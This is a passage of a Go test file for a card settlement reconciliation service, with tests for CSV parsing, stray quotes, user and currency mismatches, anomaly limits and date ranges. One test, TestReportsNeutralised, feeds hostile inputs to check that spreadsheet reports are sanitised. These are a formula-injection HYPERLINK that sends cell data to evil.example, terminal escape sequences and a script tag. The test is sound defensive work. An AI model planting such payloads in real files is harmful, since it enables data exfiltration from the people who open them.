	f.drop(day1, strings.Replace(scenarioTransactions, "MERCHANT_NAME\r\n", "MERCHANT_NAME,USER_ID\r\n", 1), scenarioPresentations)
	if s := f.run(t, day1); s.Status != settlement.Failed || !strings.Contains(s.Reason, "column USER_ID appears twice") {
		t.Errorf("USER_ID twice: %s %q", s.Status, s.Reason)
	}
}

// TestReportsNeutralised: exceptions.csv and held.csv, which finance opens
// in a spreadsheet, never start a cell with a formula; identifiers with
// control characters are MALFORMED and shown without them; a FUNCTION_CODE
// Pomelo does not document is MALFORMED, so by_function_code has its keys
// only; a held transaction whose id starts like a formula is carried by
// its own id.
func TestReportsNeutralised(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	formula := `=HYPERLINK("http://evil.example/"&A1,"click")`
	f.drop(day1, txHeader+
		`"`+strings.ReplaceAll(formula, `"`, `""`)+`",2026-12-01 09:00:00,PURCHASE,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar`+"\r\n"+
		"tx-\x01\x1b[31mRED,2026-12-01 09:01:00,PURCHASE,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n"+
		"-held,2026-12-01 09:02:00,PURCHASE,u5,2.00,ARS,2.00,ARS,HELD,OTHER,ONLINE,,Bar\r\n",
		"TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n"+
			"-held,2.00,ARS,=1+1\n-held,2.00,ARS,<script>alert(1)</script>\n-held,2.00,ARS,FIRST_PRESENTMENT\n")
	s := f.run(t, day1)
	if s.Status != settlement.Completed || s.Transactions.Malformed != 1 || s.Presentations.Malformed != 2 ||
		len(s.Presentations.ByFunctionCode) != 1 || s.Presentations.ByFunctionCode["FIRST_PRESENTMENT"] != 1 {
		t.Fatalf("%s %q %+v %+v", s.Status, s.Reason, s.Transactions, s.Presentations)
	}
	_, x := f.report(t, day1)
	held, err := f.bucket.Get(context.Background(), "reports/2026/12/01/held.csv")
	if err != nil {
		t.Fatal(err)
	}
	for name, file := range map[string][]byte{"exceptions.csv": x, "held.csv": held} {
		for i, line := range strings.Split(string(file), "\n") {
			for _, cell := range strings.Split(line, ",") {
				if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
					t.Errorf("%s line %d starts a cell with %q: %s", name, i+1, c[:1], line)
				}
			}
		}
		if strings.ContainsAny(string(file), "\x01\x1b") {
			t.Errorf("%s holds a control character:\n%q", name, file)
		}
	}
	if !strings.Contains(string(x), "holds a control character") || !strings.Contains(string(x), "unknown FUNCTION_CODE") {
		t.Errorf("exceptions.csv:\n%s", x)
	}
	// The next day carries the held transaction under its own id.
	day2 := nextDay(day1)
	f.clock = f.clock.AddDate(0, 0, 1)
	f.drop(day2, txHeader, "TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n")
	if s := f.run(t, day2); s.Transactions.HeldCarried != 1 {
		t.Errorf("day 2: %+v", s.Transactions)
	}
	_, x2 := f.report(t, day2)
	if !strings.Contains(string(x2), "'-held,HELD") {
		t.Errorf("day 2's exceptions.csv:\n%s", x2)
	}
}

// TestStrayQuote: a TRANSACTION_ID that opens a quote it never closes is
// its own line's MALFORMED row; every line after it is read as its own
// row, and rows counts every line. A file whose lines end in CR alone
// fails with that reason; a line of spaces is skipped.
func TestStrayQuote(t *testing.T) {
	var b strings.Builder
	b.WriteString(txHeader)
	b.WriteString(`"t-open,2026-12-01 09:00:00,PURCHASE,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar` + "\r\n")
	b.WriteString("   \r\n")
	for i := range 1000 {
		fmt.Fprintf(&b, "t-%d,2026-12-01 09:00:00,PURCHASE,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n", i)
	}
	b.WriteString(`"t-open-last,2026-12-01 09:00:00,PURCHASE,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar` + "\r\n")
	f := newFixture(t, scenarioLedger(t))
	f.chunk = 300
	f.drop(day1, b.String(), scenarioPresentations)
	s := f.run(t, day1)
	if c := s.Transactions; s.Status != settlement.Completed || c.Rows != 1002 || c.Malformed != 2 || c.Adjusted != 1000 {
		t.Fatalf("%s %q %+v; want 1002 rows, 2 malformed, 1000 adjusted", s.Status, s.Reason, c)
	}
	if b := f.ledger.book.Balance("u5", "ARS"); b != -1000_00 {
		t.Errorf("u5's balance %d, want -1000.00", b)
	}
	f = newFixture(t, scenarioLedger(t))
	f.drop(day1, strings.ReplaceAll(scenarioTransactions, "\r\n", "\r"), scenarioPresentations)
	if s := f.run(t, day1); s.Status != settlement.Failed || !strings.Contains(s.Reason, "lone CR") {
		t.Errorf("CR line ends: %s %q", s.Status, s.Reason)
	}
}

// unreadable is a bucket whose one key names something no run can read
// (a link out of the folder, a loop of links).
type unreadable struct {
	*memBucket
	key string
}

func (u unreadable) Stat(ctx context.Context, key string) (settlement.Object, error) {
	if key == u.key {
		return settlement.Object{}, fmt.Errorf("bucket: %s: %w: a loop of links", key, settlement.ErrUnreadable)
	}
	return u.memBucket.Stat(ctx, key)
}

// TestUnusableKeys: a key no object can have, or one naming nothing
// readable, fails the run with its reason instead of answering a store's
// failure that every retry meets again.
func TestUnusableKeys(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	f.drop(day1, scenarioTransactions, scenarioPresentations)
	r := settlement.New(settlement.Config{
		Bucket: unreadable{f.bucket, "transactions2026_12_01.csv"}, Ledger: f.ledger, Runs: f.runs, Zone: zone,
		Now: func() time.Time { return f.clock },
	})
	s, err := r.Reconcile(context.Background(), "2026-12-01", time.Time{})
	if err != nil || s.Status != settlement.Failed || !strings.Contains(s.Reason, "a loop of links") {
		t.Errorf("unreadable: %s %q %v", s.Status, s.Reason, err)
	}
	r = settlement.New(settlement.Config{
		Bucket: f.bucket, Ledger: f.ledger, Runs: newRuns(), Zone: zone, TransactionsKey: "x//t{yyyy}{mm}{dd}.csv",
		Now: func() time.Time { return f.clock },
	})
	s, err = r.Reconcile(context.Background(), "2026-12-01", time.Time{})
	if err != nil || s.Status != settlement.Failed || !errors.Is(settlement.CheckKey("x//t20261201.csv"), settlement.ErrKey) || !strings.Contains(s.Reason, "cannot name an object") {
		t.Errorf("a key no object can have: %s %q %v", s.Status, s.Reason, err)
	}
}

// TestMismatch: a row naming another user than the one we approved its
// transaction for, or another currency, moves nothing and is a MISMATCH
// with both sides in its detail, counted in the summary; running the day
// again changes nothing.
func TestMismatch(t *testing.T) {
	l := newLedger()
	at := day1.Add(13 * time.Hour)
	for _, p := range []ledger.Posting{
		credit("u1", "fund-u1", 1000_00, day1.Add(-48*time.Hour)), credit("u2", "fund-u2", 1000_00, day1.Add(-48*time.Hour)),
		auth("u1", "t-x", "PURCHASE", -40_00, at), auth("u2", "t-y", "PURCHASE", -50_00, at),
	} {
		if err := l.post(p); err != nil {
			t.Fatal(err)
		}
	}
	f := newFixture(t, l)
	f.drop(day1, txHeader+
		"t-x,2026-12-01 10:00:00,PURCHASE,u7,40.00,ARS,40.00,ARS,APPROVED,APPROVED,CLEARING,,Bar\r\n"+
		"t-y,2026-12-01 10:01:00,PURCHASE,u2,50.00,USD,50.00,USD,APPROVED,APPROVED,CLEARING,,Bar\r\n",
		"TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n")
	for range 2 {
		s := f.run(t, day1)
		if c := s.Transactions; s.Status != settlement.Completed || c.Rows != 2 || c.Mismatch != 2 || c.Adjusted+c.AmountAdjusted != 0 {
			t.Fatalf("%s %q %+v", s.Status, s.Reason, c)
		}
		for _, a := range []struct {
			user, cur string
			want      int64
		}{{"u7", "ARS", 0}, {"u1", "ARS", 960_00}, {"u2", "ARS", 950_00}, {"u2", "USD", 0}} {
			if b := f.ledger.book.Balance(a.user, a.cur); b != a.want {
				t.Errorf("%s %s: balance %d, want %d", a.user, a.cur, b, a.want)
			}
		}
		_, x := f.report(t, day1)
		for _, want := range []string{"t-x,MISMATCH,CLEARING,APPROVED,NONE,file: APPROVED PURCHASE for user u7; ledger: the transaction is user u1's",
			"t-y,MISMATCH,CLEARING,APPROVED,NONE,file: APPROVED PURCHASE in USD; ledger: the transaction's entries are in ARS"} {
			if !strings.Contains(string(x), want) {
				t.Errorf("exceptions.csv lacks %q:\n%s", want, x)
			}
		}
	}
}

// TestAnomaliesBounded: the summary keeps the first MaxAnomalies anomalies
// and counts them all; exceptions.csv lists them all.
func TestAnomaliesBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString(txHeader)
	for i := range settlement.MaxAnomalies + 500 {
		fmt.Fprintf(&b, "t-%d,2026-12-01 09:00:00,TELEPORT,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n", i)
	}
	f := newFixture(t, scenarioLedger(t))
	f.chunk = 400
	f.drop(day1, b.String(), scenarioPresentations)
	s := f.run(t, day1)
	want := settlement.MaxAnomalies + 500 + s.Transactions.ClientOnly + s.Presentations.Flagged + s.Presentations.Malformed
	if len(s.Anomalies) != settlement.MaxAnomalies || s.AnomaliesTotal != want {
		t.Errorf("%d anomalies kept, %d counted", len(s.Anomalies), s.AnomaliesTotal)
	}
	if s.Anomalies[0].TransactionID != "t-0" || s.Anomalies[len(s.Anomalies)-1].TransactionID != fmt.Sprint("t-", settlement.MaxAnomalies-1) {
		t.Errorf("anomalies from %s to %s, want the first %d in file order", s.Anomalies[0].TransactionID, s.Anomalies[len(s.Anomalies)-1].TransactionID, settlement.MaxAnomalies)
	}
	_, x := f.report(t, day1)
	if n := strings.Count(string(x), ",MALFORMED,"); n != settlement.MaxAnomalies+500+s.Presentations.Malformed {
		t.Errorf("exceptions.csv lists %d malformed rows", n)
	}
}

// TestBetween: the runs of a range of days, oldest first, the days never
// run left out; a completed day shows its summary's counts and anomalies;
// a bad, reversed or too wide range is ErrDate.
func TestBetween(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	f.drop(day1, scenarioTransactions, scenarioPresentations)
	want := f.run(t, day1)
	f.clock = f.clock.AddDate(0, 0, 3)
	day3 := day1.AddDate(0, 0, 2)
	f.run(t, day3) // no files: FAILED
	got, err := f.reconciler().Between(context.Background(), "2026-11-20", "2026-12-04")
	if err != nil || len(got) != 2 || got[0].Date != "2026-12-01" || got[1].Date != "2026-12-03" || got[1].Status != settlement.Failed {
		t.Fatalf("Between = %+v, %v", got, err)
	}
	if got[0].Status != settlement.Completed || got[0].Transactions != want.Transactions || got[0].Anomalies != want.AnomaliesTotal {
		t.Errorf("the completed day: %+v, want %+v and %d anomalies", got[0], want.Transactions, want.AnomaliesTotal)
	}
	for _, r := range [][2]string{{"2026-12-04", "2026-12-01"}, {"2026-10-01", "2026-12-02"}, {"2026-12-1", "2026-12-02"}, {"2026-12-01", "2099-01-01"}, {"", ""}} {
		if _, err := f.reconciler().Between(context.Background(), r[0], r[1]); !errors.Is(err, settlement.ErrDate) {
			t.Errorf("Between(%s, %s) = %v, want ErrDate", r[0], r[1], err)
		}
	}
	if got, err := f.reconciler().Between(context.Background(), "2026-10-03", "2026-12-03"); err != nil || len(got) != 2 {
		t.Errorf("62 days: %d, %v", len(got), err)
	}
}
